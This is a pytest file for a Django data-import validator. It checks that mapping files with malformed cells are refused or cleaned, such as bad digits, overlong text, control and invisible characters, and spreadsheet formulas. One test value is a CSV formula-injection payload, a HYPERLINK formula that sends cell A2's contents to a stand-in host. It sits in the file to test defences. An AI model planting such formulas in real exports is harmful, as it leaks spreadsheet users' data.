"""The input boundary: every cell is cleaned and held to the column it lands in, once, the same
way for files, web edits and the API (registry.editing builds its check on the same validator).

Each case is a small mapping file with one odd value; the finding is asserted exactly (code,
location, message) and, where the value is refused, an import stores nothing of that row.
"""

from __future__ import annotations

import datetime as dt
import json
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import call_command
from hypothesis import given, settings
from hypothesis import strategies as st

from samarbeid.intake.commands import check_path
from samarbeid.registry.models import Arrangement, Mapping
from samarbeid.rules.boundary import clean_cell, full_check
from samarbeid.rules.findings import ERROR, WARNING
from samarbeid.rules.schema import TEXT_MAX, Column
from tests.conftest import _Null

HEAD = (
    "#Kartlegging\nfelt,verdi\nnavn,Grense\ndato,2021-11-01\n\n"
    "#Kommuner\nkommune\nKongsberg\nNotodden\n\n#Ordninger\n"
)
COLUMNS = ["id", "navn", "deltakere"]
MEMBERS = "Kongsberg; Notodden"
pytestmark = pytest.mark.django_db


def _csv_cell(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


def write_file(tmp_path: Path, extra: dict[str, str], *, name: str = "f.csv") -> Path:
    """A valid one-arrangement mapping (line 13 is the arrangement) with ``extra`` columns."""
    row = {"id": "A1", "navn": "Alfa IKT", "deltakere": MEMBERS, **extra}
    columns = list(dict.fromkeys(COLUMNS + list(extra)))
    text = HEAD + ",".join(columns) + "\n" + ",".join(_csv_cell(row[c]) for c in columns) + "\n"
    path = tmp_path / name
    path.write_text(text, encoding="utf-8", newline="")
    return path


def findings(path: Path, **options: object) -> list[tuple[str, str, str | None, str]]:
    result = check_path(str(path), mapping_name=options.get("mapping"), cutoff=None)  # type: ignore[arg-type]
    return [(f.severity, f.code, f.column, f.text()) for f in result.findings]


def test_the_plain_file_is_clean(tmp_path: Path) -> None:
    assert findings(write_file(tmp_path, {})) == []


@pytest.mark.parametrize(
    ("column", "value", "code", "message"),
    [
        # digits that pass str.isdigit() but are not ASCII
        (
            "deltakere_oppgitt_antall",
            "²",
            "integer_invalid",
            "«²» er ikke et helt tall. Forventet et helt tall ≥ 0 (høyst 2 147 483 647).",
        ),
        (
            "deltakere_oppgitt_antall",
            "٣",
            "integer_invalid",
            "«٣» er ikke et helt tall. Forventet et helt tall ≥ 0 (høyst 2 147 483 647).",
        ),
        (
            "deltakere_oppgitt_antall",
            "99999999999",
            "integer_invalid",
            "«99999999999» er ikke et helt tall. Forventet et helt tall ≥ 0 (høyst 2 147 483 647).",
        ),
        (
            "oppgaveomrader",
            "3; ¹",
            "task_area_unknown",
            "Ukjent oppgaveområde «¹». Forventet nummer 1–45 (se malen).",
        ),
        (
            "arsverk",
            "٦",
            "number_invalid",
            "«٦» er ikke et tall. Forventet antall årsverk, et tall ≥ 0.",
        ),
        # years and dates before 1800, and year 0
        (
            "etablert",
            "0000",
            "year_too_early",
            "Året i «0000» er for tidlig. Forventet et år fra 1800.",
        ),
        (
            "etablert",
            "0202-2001",
            "year_too_early",
            "Året i «0202-2001» er for tidlig. Forventet et år fra 1800.",
        ),
        (
            "etablert",
            "２００１",
            "established_invalid",
            "Ugyldig etablering «２００１». Forventet ÅÅÅÅ, ÅÅÅÅ-ÅÅÅÅ eller «uspesifisert».",
        ),
        # numbers beyond the column's digits
        (
            "arsverk",
            "1 234 567 890",
            "number_too_large",
            "1 234 567 890 er for stort for kolonnen. Forventet høyst 9999999.99.",
        ),
        (
            "arsverk",
            "10000000",
            "number_too_large",
            "10000000 er for stort for kolonnen. Forventet høyst 9999999.99.",
        ),
        (
            "budsjett",
            "12345678901234567890",
            "number_too_large",
            "12345678901234567890 er for stort for kolonnen. Forventet høyst 999999999999999.",
        ),
        (
            "budsjett",
            "1e308",
            "number_invalid",
            "«1e308» er ikke et tall. Forventet kroner, et tall ≥ 0.",
        ),
        # texts longer than the column, line breaks in one-line columns
        (
            "navn",
            "N" * 301,
            "text_too_long",
            "Teksten har 301 tegn; feltet tar høyst 300. Forkort den.",
        ),
        ("id", "I" * 51, "text_too_long", "Teksten har 51 tegn; feltet tar høyst 50. Forkort den."),
        (
            "forkortelse",
            "F" * 51,
            "text_too_long",
            "Teksten har 51 tegn; feltet tar høyst 50. Forkort den.",
        ),
        (
            "beskrivelse",
            "b" * 32_768,
            "text_too_long",
            "Teksten har 32768 tegn; feltet tar høyst 32767. Forkort den.",
        ),
        (
            "navn",
            "Alfa\nIKT",
            "line_break",
            "«Alfa ⏎ IKT» har linjeskift. Forventet én linje i dette feltet.",
        ),
        # characters that cannot be stored
        (
            "navn",
            "Alfa\x07IKT",
            "control_character",
            "Verdien inneholder kontrolltegnet U+0007 (tegn nr. 5), som ikke kan lagres: "
            "«Alfa\\x07IKT». Forventet vanlig tekst; fjern tegnet.",
        ),
        (
            "merknader",
            "ok\x1bnot",
            "control_character",
            "Verdien inneholder kontrolltegnet U+001B (tegn nr. 3), som ikke kan lagres: "
            "«ok\\x1bnot». Forventet vanlig tekst; fjern tegnet.",
        ),
        # formulas, with or without the apostrophe an export puts in front
        (
            "navn",
            '\'=HYPERLINK("http://x/?l="&A2,"x")',
            "formula",
            'Cellen begynner med «=» og blir en formel i regneark: «\'=HYPERLINK("http://x/?l="&A2,'
            '"x")». Forventet en verdi, ikke en formel (skriv verdien uten «=» foran).',
        ),
        (
            "merknader",
            "\u200b=1+2",
            "formula",
            "Cellen begynner med «=» og blir en formel i regneark: «=1+2». Forventet en verdi, ikke "
            "en formel (skriv verdien uten «=» foran).",
        ),
        (
            "kilder",
            "'@SUM(A1)",
            "formula",
            "Cellen begynner med «@» og blir en formel i regneark: «'@SUM(A1)». Forventet en verdi, "
            "ikke en formel (skriv verdien uten «@» foran).",
        ),
    ],
)
def test_refused(tmp_path: Path, column: str, value: str, code: str, message: str) -> None:
    path = write_file(tmp_path, {column: value})
    errors = [f for f in findings(path) if f[0] == ERROR]
    assert (ERROR, code, column, message) in errors
    # ... and the arrangement is refused with it: --skip-invalid stores nothing of it.
    call_command(
        "import_file",
        str(path),
        mapping="Grense",
        skip_invalid=True,
        rejected=str(tmp_path / "avvist.csv"),
        stdout=_Null(),
    )
    assert not Arrangement.objects.filter(mapping__name="Grense").exists()
    assert ",13," in (tmp_path / "avvist.csv").read_text(encoding="utf-8-sig")


def test_year_zero_as_end_date(tmp_path: Path) -> None:
    path = write_file(tmp_path, {"status": "avsluttet", "avsluttet": "0000"})
    assert (
        ERROR,
        "date_too_early",
        "avsluttet",
        "Datoen «0000» er for tidlig. Forventet en dato fra 1800.",
    ) in findings(path)


def test_membership_dates_before_1800(tmp_path: Path) -> None:
    text = (
        HEAD + "id,navn\nA1,Alfa IKT\n\n#Deltakere\nordning_id,deltaker,inn_dato,ut_dato\n"
        "A1,Kongsberg,0001-01-01,\nA1,Notodden,,0000-01-01\n"
    )
    path = tmp_path / "d.csv"
    path.write_text(text, encoding="utf-8")
    found = findings(path)
    assert (
        ERROR,
        "date_too_early",
        "inn_dato",
        "Datoen «0001-01-01» er for tidlig. Forventet en dato fra 1800.",
    ) in found
    assert (
        ERROR,
        "date_invalid",
        "ut_dato",
        "Ugyldig dato «0000-01-01». Forventet ÅÅÅÅ-MM-DD.",
    ) not in found
    assert [f[1] for f in found if f[2] == "ut_dato"] == ["date_too_early"]


def test_invisible_characters_are_removed_with_a_warning(tmp_path: Path) -> None:
    path = write_file(tmp_path, {"navn": "Alfa\u200b IKT\u202e", "merknader": "a\u00adb"})
    assert findings(path) == [
        (
            WARNING,
            "invisible_removed",
            "navn",
            "Usynlige tegn er fjernet (U+200B ZERO WIDTH SPACE, U+202E RIGHT-TO-LEFT OVERRIDE); "
            "verdien leses som «Alfa IKT».",
        ),
        (
            WARNING,
            "invisible_removed",
            "merknader",
            "Usynlige tegn er fjernet (U+00AD SOFT HYPHEN); verdien leses som «ab».",
        ),
    ]
    result = check_path(str(path), mapping_name=None, cutoff=None)
    assert result.spec.arrangements[0].name == "Alfa IKT"


def test_a_name_that_differs_only_by_an_invisible_character_is_the_same_name(
    tmp_path: Path,
) -> None:
    text = HEAD + "id,navn,deltakere\nA1,Alfa IKT,Kongsberg\nA2,Alfa\u200b IKT,Notodden\n"
    path = tmp_path / "zw.csv"
    path.write_text(text, encoding="utf-8")
    assert (
        ERROR,
        "arrangement_duplicate",
        "navn",
        "Samme ordning to ganger: «Alfa IKT» står også på linje 13.",
    ) in findings(path)


def test_text_is_nfc_and_trimmed(tmp_path: Path) -> None:
    decomposed = "A\u030al IKT"  # «Ål» as a + combining ring
    path = write_file(tmp_path, {"navn": f"  {decomposed}\u00a0", "deltakere": "A\u030al"})
    result = check_path(str(path), mapping_name=None, cutoff=None)
    assert not result.errors
    arrangement = result.spec.arrangements[0]
    assert arrangement.name == "Ål IKT"
    assert arrangement.memberships[0].period.name == "Ål"


def test_rounding_happens_once_on_input_so_a_second_import_changes_nothing(
    tmp_path: Path,
) -> None:
    text = (
        HEAD + "id,navn,arsverk\nA1,Alfa IKT,6.255\n\n#Deltakere\nordning_id,deltaker,eierandel\n"
        "A1,Kongsberg,33.333333\nA1,Notodden,66.666666\n"
    )
    path = tmp_path / "r.csv"
    path.write_text(text, encoding="utf-8")
    assert [f for f in findings(path) if f[1] == "number_rounded"] == [
        (
            WARNING,
            "number_rounded",
            "arsverk",
            "6.255 har flere desimaler enn kolonnen tar (2); lagres avrundet som 6.26.",
        ),
        (
            WARNING,
            "number_rounded",
            "eierandel",
            "33.333333 har flere desimaler enn kolonnen tar (4); lagres avrundet som 33.3333.",
        ),
        (
            WARNING,
            "number_rounded",
            "eierandel",
            "66.666666 har flere desimaler enn kolonnen tar (4); lagres avrundet som 66.6667.",
        ),
    ]
    out = _Capture()
    call_command("import_file", str(path), mapping="Grense", stdout=out)
    arrangement = Arrangement.objects.get(mapping__name="Grense", ref="A1")
    assert arrangement.arsverk == Decimal("6.26")
    assert sorted(m.ownership_share for m in arrangement.memberships.all()) == [
        Decimal("33.3333"),
        Decimal("66.6667"),
    ]
    out = _Capture()
    call_command("import_file", str(path), mapping="Grense", stdout=out)
    assert "0 nye, 0 endrede, 1 uendrede" in out.text


def test_mapping_name_from_the_command_line_passes_the_same_boundary(tmp_path: Path) -> None:
    path = write_file(tmp_path, {})
    assert (
        ERROR,
        "text_too_long",
        None,
        "Teksten har 151 tegn; feltet tar høyst 150. Forkort den.",
    ) in findings(path, mapping="M" * 151)
    assert (
        ERROR,
        "formula",
        None,
        "Cellen begynner med «=» og blir en formel i regneark: «=1+2». Forventet en verdi, "
        "ikke en formel (skriv verdien uten «=» foran).",
    ) in findings(path, mapping="=1+2")
    result = check_path(str(path), mapping_name=" Grense\u200b ", cutoff=None)
    assert result.spec.name == "Grense"
    assert not result.errors


def test_mapping_fields_are_held_to_their_columns(tmp_path: Path) -> None:
    text = (
        HEAD.replace("navn,Grense", "navn," + "G" * 151).replace(
            "dato,2021-11-01", "dato,2021-11-01\ntittel," + "T" * 301
        )
        + "id,navn,deltakere\nA1,Alfa IKT,Kongsberg\n"
    )
    path = tmp_path / "m.csv"
    path.write_text(text, encoding="utf-8")
    codes = [(f[1], f[2]) for f in findings(path) if f[0] == ERROR]
    assert codes.count(("text_too_long", "verdi")) == 2


def test_longest_values_fit_their_database_columns(tmp_path: Path) -> None:
    """At the limit every value is stored — on PostgreSQL too, where a longer one raised DataError."""
    values = {
        "id": "I" * 50,
        "navn": "N" * 300,
        "forkortelse": "F" * 50,
        "navnevarianter": "; ".join(["V" * 300] * 3),
        "arsverk": "9999999.99",
        "budsjett": "999999999999999",
        "beskrivelse": "b" * 32_767,
        "deltakere_oppgitt_antall": "2147483647",
    }
    path = write_file(tmp_path, values)
    call_command("import_file", str(path), mapping="M" * 150, stdout=_Null())
    stored = Arrangement.objects.get(mapping__name="M" * 150)
    assert (stored.ref, stored.name, stored.abbreviation) == ("I" * 50, "N" * 300, "F" * 50)
    assert stored.arsverk == Decimal("9999999.99") and stored.budget == Decimal(10**15 - 1)
    assert len(stored.description) == 32_767 and stored.participant_count_stated == 2147483647


def test_a_name_variant_longer_than_a_name_is_refused(tmp_path: Path) -> None:
    path = write_file(tmp_path, {"navnevarianter": "kort; " + "V" * 301})
    assert (
        ERROR,
        "text_too_long",
        "navnevarianter",
        "Teksten har 301 tegn; feltet tar høyst 300. Forkort den.",
    ) in findings(path)


def test_a_quoted_value_is_shortened_in_messages(tmp_path: Path) -> None:
    path = write_file(tmp_path, {"status": "x" * 90 + "\u200b" + "y" * 9})
    [message] = [f[3] for f in findings(path) if f[1] == "vocabulary_unknown"]
    assert len(message) < 400


def test_today_is_still_today() -> None:  # the MIN_YEAR bound does not touch real dates
    from samarbeid.rules.values import parse_date, parse_year_or_date

    assert parse_date(dt.date.today().isoformat()) == dt.date.today()
    assert parse_year_or_date("1800") == (dt.date(1800, 1, 1), "year")
    assert parse_year_or_date("1799") is None


class _Capture:
    def __init__(self) -> None:
        self.text = ""

    def write(self, text: str) -> None:
        self.text += text

    def flush(self) -> None:
        pass


def test_mapping_model_is_untouched_by_a_refused_name(tmp_path: Path) -> None:
    path = write_file(tmp_path, {})
    with pytest.raises(SystemExit):
        call_command("import_file", str(path), mapping="=1+2", stdout=_Null())
    assert not Mapping.objects.exists()


@pytest.mark.parametrize(
    ("value", "char"), [("Alfa\u0000IKT", "U+0000"), ("Alfa\ud800IKT", "U+D800")]
)
def test_nul_and_lone_surrogates_from_json_are_refused(tmp_path: Path, value, char) -> None:
    """JSON can carry what a CSV reader refuses outright: NUL (PostgreSQL cannot store it) and a
    lone surrogate (not a character; cannot be encoded as UTF-8)."""
    path = tmp_path / "n.json"
    path.write_text(
        '{"format": "samarbeid-kartlegging", "versjon": 1, '
        '"kartlegging": {"navn": "Grense", "dato": "2021-11-01"}, '
        '"kommuner": [{"kommune": "Kongsberg"}, {"kommune": "Notodden"}], '
        f'"ordninger": [{{"id": "A1", "navn": {json.dumps(value)}, '
        '"deltakere": ["Kongsberg", "Notodden"]}]}',
        encoding="utf-8",
    )
    [error] = [f for f in findings(path) if f[0] == ERROR]
    assert error[:3] == (ERROR, "control_character", "navn")
    assert f"kontrolltegnet {char} (tegn nr. 5)" in error[3]


@settings(max_examples=500, deadline=None)
@given(
    raw=st.text(alphabet=st.characters(codec=None), max_size=12)
    | st.sampled_from(["=1", "'=1", "-5", " a", "a ", "Å", "A\u030a", "\u00a0x", "ok"]),
    limit=st.sampled_from([5, 50, TEXT_MAX]),
    one_line=st.booleans(),
)
def test_the_shortcut_gives_the_full_checks_answer(raw: str, limit: int, one_line: bool) -> None:
    column = Column("x", "", max_length=limit, one_line=one_line)
    fast, slow = clean_cell(column, raw), full_check(column, raw)
    assert fast[0] == slow[0]
    assert [(i.severity, i.code, i.params) for i in fast[1]] == [
        (i.severity, i.code, i.params) for i in slow[1]
    ]


def test_a_mapping_field_twice_is_refused_not_last_one_wins(tmp_path: Path) -> None:
    text = HEAD.replace("dato,2021-11-01", "dato,2021-11-01\nDato,2020-01-01") + (
        "id,navn,deltakere\nA1,Alfa IKT,Kongsberg\n"
    )
    path = tmp_path / "twice.csv"
    path.write_text(text, encoding="utf-8")
    assert (
        ERROR,
        "mapping_field_duplicate",
        "felt",
        "Feltet «Dato» står to ganger (også linje 4). Forventet hvert felt én gang.",
    ) in (findings(path))
